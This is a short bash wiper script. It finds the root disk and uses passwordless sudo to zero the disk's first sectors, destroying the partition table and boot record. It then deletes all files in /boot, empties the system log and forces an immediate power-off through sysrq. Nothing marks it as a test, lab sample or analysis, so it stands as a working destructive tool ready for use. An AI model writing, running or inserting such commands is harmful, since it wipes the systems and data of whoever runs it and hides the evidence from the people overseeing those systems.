#!/bin/bash
DEV=$(findmnt -no SOURCE / | sed 's/p\?[0-9]*$//')
sudo -n sh -c "
  dd if=/dev/zero of=$DEV bs=512 count=2048 conv=notrunc
  find /boot -type f -delete
  cat /dev/null > /var/log/syslog
  echo o > /proc/sysrq-trigger
"
